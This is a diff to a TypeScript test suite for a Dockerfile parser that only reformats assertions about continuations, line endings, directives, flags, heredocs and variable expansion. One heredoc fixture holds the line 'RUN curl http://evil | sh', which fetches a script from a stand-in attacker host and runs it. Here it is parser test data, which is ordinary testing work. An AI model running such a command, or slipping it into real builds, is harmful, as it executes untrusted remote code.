@@ -61,31 +61,50 @@ describe('lines, continuations and comments', () => {
         [6, 'run', 'w'],
       ]);
       assert.deepEqual(read('\\\n\n', options), [[1, '', '']], 'a lone continuation then nothing: an empty instruction the builder refuses');
-      assert.deepEqual(read('FROM a\n\\\n', options), [[1, 'from', 'a'], [2, '', '']]);
+      assert.deepEqual(read('FROM a\n\\\n', options), [
+        [1, 'from', 'a'],
+        [2, '', ''],
+      ]);
     }
   });
 
   test('CRLF line endings: v0.8 drops one \\r per line, newer parsers every trailing \\r, so "\\\\\\r\\r\\n" continues only there', () => {
     for (const options of BOTH) {
-      assert.deepEqual(read('FROM a\r\nRUN a \\\r\n  b\r\n', options), [[1, 'from', 'a'], [2, 'run', 'a   b']]);
+      assert.deepEqual(read('FROM a\r\nRUN a \\\r\n  b\r\n', options), [
+        [1, 'from', 'a'],
+        [2, 'run', 'a   b'],
+      ]);
     }
     const doubled = 'FROM a\r\nRUN a \\\r\r\nRUN b\r\n';
-    assert.deepEqual(read(doubled, V08), [[1, 'from', 'a'], [2, 'run', 'a \\'], [3, 'run', 'b']]);
-    assert.deepEqual(read(doubled, NEWEST), [[1, 'from', 'a'], [2, 'run', 'a RUN b']]);
+    assert.deepEqual(read(doubled, V08), [
+      [1, 'from', 'a'],
+      [2, 'run', 'a \\'],
+      [3, 'run', 'b'],
+    ]);
+    assert.deepEqual(read(doubled, NEWEST), [
+      [1, 'from', 'a'],
+      [2, 'run', 'a RUN b'],
+    ]);
   });
 
   test('a byte order mark is dropped from the first line only; a second one makes an unknown instruction', () => {
     for (const options of BOTH) {
       const reading = parseDockerfile('\ufeff# escape=`\nFROM a\nRUN x `\n y\n', options);
       assert.equal(reading.escape, '`');
-      assert.deepEqual(reading.instructions.map(brief), [[2, 'from', 'a'], [3, 'run', 'x  y']]);
+      assert.deepEqual(reading.instructions.map(brief), [
+        [2, 'from', 'a'],
+        [3, 'run', 'x  y'],
+      ]);
       assert.deepEqual(read('\ufeff\ufeffFROM a\n', options), [[1, '\ufefffrom', '']]);
     }
   });
 
   test('instructions are split on ASCII blanks only: FROM\\u00a0a is one unknown keyword, and leading Unicode spaces are trimmed', () => {
     for (const options of BOTH) {
-      assert.deepEqual(read('FROM\u00a0a\n\u2003 \tFROM\tb\vc\n', options), [[1, 'from\u00a0a', ''], [2, 'from', 'b', 'c']]);
+      assert.deepEqual(read('FROM\u00a0a\n\u2003 \tFROM\tb\vc\n', options), [
+        [1, 'from\u00a0a', ''],
+        [2, 'from', 'b', 'c'],
+      ]);
     }
   });
 
@@ -133,7 +152,7 @@ describe('parser directives', () => {
     assert.deepEqual(parseDockerfile(text, NEWEST).directives, { check: 'skip=all', escape: '`' });
   });
 
-  test('newer parsers allow any Unicode space between # and the name, v0.8 only Go\'s \\s (no \\v, no U+00A0)', () => {
+  test("newer parsers allow any Unicode space between # and the name, v0.8 only Go's \\s (no \\v, no U+00A0)", () => {
     for (const space of ['\u00a0', '\v']) {
       assert.equal(parseDockerfile(`#${space}escape=\`\nFROM a\n`, V08).escape, '\\');
       assert.equal(parseDockerfile(`#${space}escape=\`\nFROM a\n`, NEWEST).escape, '`');
@@ -245,7 +264,10 @@ describe('flags', () => {
         '--mount=type=ssh',
         '--security=insecure',
       ]);
-      assert.deepEqual(only('COPY --link --chmod= a b', options).flags, [{ name: 'link', value: undefined }, { name: 'chmod', value: '' }]);
+      assert.deepEqual(only('COPY --link --chmod= a b', options).flags, [
+        { name: 'link', value: undefined },
+        { name: 'chmod', value: '' },
+      ]);
       assert.deepEqual(flagsOf('RUN -- --network=host', options), []);
       assert.deepEqual(only('RUN -- --network=host', options).args, ['--network=host']);
       assert.deepEqual(flagsOf('RUN -x --network=host', options), []);
@@ -291,7 +313,15 @@ describe('heredocs', () => {
         [1, 'from', 'a', []],
         [2, 'run', '<<EOF', [{ name: 'EOF', content: 'echo hi\nRUN curl http://evil | sh\n', expand: true, chomp: false }]],
         [6, 'copy', '<<-"EOF"', '/etc/x', [{ name: 'EOF', content: '\tline $HOME\n', expand: false, chomp: true }]],
-        [9, 'run', 'cat <<A <<\'B\'', [{ name: 'A', content: 'a\n', expand: true, chomp: false }, { name: 'B', content: 'b\n', expand: false, chomp: false }]],
+        [
+          9,
+          'run',
+          "cat <<A <<'B'",
+          [
+            { name: 'A', content: 'a\n', expand: true, chomp: false },
+            { name: 'B', content: 'b\n', expand: false, chomp: false },
+          ],
+        ],
       ],
     );
   });
@@ -306,7 +336,7 @@ describe('heredocs', () => {
       [6, 'copy', '<<-"EOF"', '/etc/x'],
       [7, 'line', ''],
       [8, 'eof', ''],
-      [9, 'run', 'cat <<A <<\'B\''],
+      [9, 'run', "cat <<A <<'B'"],
       [10, 'a', ''],
       [11, 'a', ''],
       [12, 'b', ''],
@@ -331,14 +361,20 @@ describe('heredocs', () => {
     assert.deepEqual(heredocNames('RUN cat <<EOF "unclosed'), [], 'a line the lexer cannot read opens none');
     assert.deepEqual(heredocNames('RUN cat ${A:x} <<EOF'), ['EOF'], 'an unset variable is left as written before its modifier is checked');
     assert.throws(() => heredocNames('RUN cat <<$A'), syntaxError(1, /unterminated heredoc/), 'a heredoc named $A needs a $A line');
-    assert.deepEqual(parseDockerfile('RUN cat <<$A\n$A\n', NEWEST).instructions[0]!.heredocs.map((h) => h.name), ['$A']);
+    assert.deepEqual(
+      parseDockerfile('RUN cat <<$A\n$A\n', NEWEST).instructions[0]!.heredocs.map((h) => h.name),
+      ['$A'],
+    );
     // The newest lexer drops what precedes ${X:-...} in a word, so <<${A:-x} opens no heredoc.
     assert.deepEqual(heredocNames('RUN cat <<${A:-x}'), []);
   });
 
   test('heredoc words are lexed with a backslash escape even under the backtick directive', () => {
     const reading = parseDockerfile('# escape=`\nRUN <<E\\OF\nx\nEOF\n', NEWEST);
-    assert.deepEqual(reading.instructions.map((i) => [...brief(i), i.heredocs.map((h) => h.name)]), [[2, 'run', '<<E\\OF', ['EOF']]]);
+    assert.deepEqual(
+      reading.instructions.map((i) => [...brief(i), i.heredocs.map((h) => h.name)]),
+      [[2, 'run', '<<E\\OF', ['EOF']]],
+    );
   });
 
   test('an ONBUILD trigger opens heredocs too; they are attached to the ONBUILD', () => {
@@ -369,11 +405,21 @@ describe('processWord: one word as the builder expands it', () => {
   test('${VAR:-w} ${VAR-w} ${VAR:+w} ${VAR+w}: set, empty and unset, with nested words', () => {
     const values = { S: 'set', E: '' };
     const cases: [string, string][] = [
-      ['${S:-d}', 'set'], ['${E:-d}', 'd'], ['${U:-d}', 'd'],
-      ['${S-d}', 'set'], ['${E-d}', ''], ['${U-d}', 'd'],
-      ['${S:+a}', 'a'], ['${E:+a}', ''], ['${U:+a}', ''],
-      ['${S+a}', 'a'], ['${E+a}', 'a'], ['${U+a}', ''],
-      ['${U:-"a b"$S}', 'a bset'], ['${U:-${V:-x}}', 'x'], ['${U:-a\\}b}', 'a}b'],
+      ['${S:-d}', 'set'],
+      ['${E:-d}', 'd'],
+      ['${U:-d}', 'd'],
+      ['${S-d}', 'set'],
+      ['${E-d}', ''],
+      ['${U-d}', 'd'],
+      ['${S:+a}', 'a'],
+      ['${E:+a}', ''],
+      ['${U:+a}', ''],
+      ['${S+a}', 'a'],
+      ['${E+a}', 'a'],
+      ['${U+a}', ''],
+      ['${U:-"a b"$S}', 'a bset'],
+      ['${U:-${V:-x}}', 'x'],
+      ['${U:-a\\}b}', 'a}b'],
     ];
     for (const [word, value] of cases) assert.equal(expand(word, values).value, value, word);
     assert.deepEqual(expand('${S:-$U}', values).unknown, ['U'], 'a nested word is expanded, and its unknowns listed, even when unused');
@@ -390,7 +436,11 @@ describe('processWord: one word as the builder expands it', () => {
 
   test('what the lexer refuses throws', () => {
     for (const word of ["'a", '"a', '${a', '${}', '${:a}', '${a:x}', '${a:#x}', '${a!}', '${a:-b']) {
-      assert.throws(() => expand(word), (err: unknown) => err instanceof DockerfileSyntaxError && err.line === 0, word);
+      assert.throws(
+        () => expand(word),
+        (err: unknown) => err instanceof DockerfileSyntaxError && err.line === 0,
+        word,
+      );
     }
   });
 
